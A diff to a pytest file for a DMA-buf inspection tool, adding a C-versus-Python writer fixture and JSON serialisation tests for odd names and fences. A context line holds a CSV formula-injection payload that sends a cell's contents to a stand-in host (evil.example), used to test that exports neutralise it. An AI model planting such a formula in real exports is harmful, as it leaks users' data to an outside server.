@@ -16,6 +16,7 @@ from tui_fakes import synthetic
 from dmabuf_inspect.cli.main import main
 from dmabuf_inspect.cli.tables import csv_cell, render_csv
 from dmabuf_inspect.kernel.reader import Roots
+from dmabuf_inspect.model import Fence
 from dmabuf_inspect.scan import jsonout
 from dmabuf_inspect.scan.jsonout import snapshot_to_dict
 from dmabuf_inspect.scan.snapshot import collect
@@ -50,15 +51,25 @@ def test_dump_refuses_a_bad_indent(capsys: pytest.CaptureFixture[str]) -> None:
     assert "not a number of spaces" in capsys.readouterr().err
 
 
+@pytest.fixture(params=["c", "python"])
+def writer(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
+    """Each test of the written text runs with the C writer (_fdwalk.weave) and without it."""
+    if request.param == "c":
+        assert jsonout.c_weave is not None, "the C extension is built for the tests (tests/run.sh installs gcc)"
+    else:
+        monkeypatch.setattr(jsonout, "_weave", None)
+    return str(request.param)
+
+
 @pytest.mark.parametrize("name", ["k6.12", "k7.3", "hostile-links", "k4.19-legacy"])
-def test_written_json_is_the_document_byte_for_byte(name: str) -> None:
+def test_written_json_is_the_document_byte_for_byte(name: str, writer: str) -> None:
     snap = collect(Roots.from_tree(str(FIXTURES / name)))
     out = io.StringIO()
     jsonout.write(snap, out)
     assert out.getvalue() == json.dumps(snapshot_to_dict(snap), separators=(",", ":")) + "\n"
 
 
-def test_written_json_of_many_buffers_is_the_document() -> None:
+def test_written_json_of_many_buffers_is_the_document(writer: str) -> None:
     snap = synthetic(2500, 40)
     out = io.StringIO()
     jsonout.write(snap, out)
@@ -122,6 +133,25 @@ def test_a_buffer_named_like_a_formula_is_text_in_the_csv(tmp_path: Path, capsys
     rows = {r["inode"]: r for r in csv.DictReader(io.StringIO(out))}
     assert rows["30002"]["name"] == "'" + HYPERLINK
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1)"' in out
+
+
+def test_names_fences_and_odd_values_are_written_as_json_writes_them(writer: str) -> None:
+    snap = synthetic(40, 3)
+    odd = [
+        snap.buffers[0]._replace(
+            name='caf\u00e9 \udcff\n"q"',
+            count=None,
+            kernel_refs=None,
+            holders_known=False,
+            fences=(Fence("write", "vgem", "unbound", "1", "1", False), Fence("read", "d\u00e9", "t", "", None, True)),
+        ),
+        snap.buffers[1]._replace(name=HYPERLINK, holders=(), attachments=("0000:00:02.0", "vgem")),
+        snap.buffers[2]._replace(name=None, exporter="\u00e9xp", size_source="bufinfo"),
+    ]
+    buffers = [*odd, *snap.buffers[3:]]
+    assert jsonout.buffers_json(buffers) == ",".join(
+        json.dumps(jsonout.buffer_to_dict(b), separators=(",", ":")) for b in buffers
+    )
 
 
 @pytest.mark.parametrize(
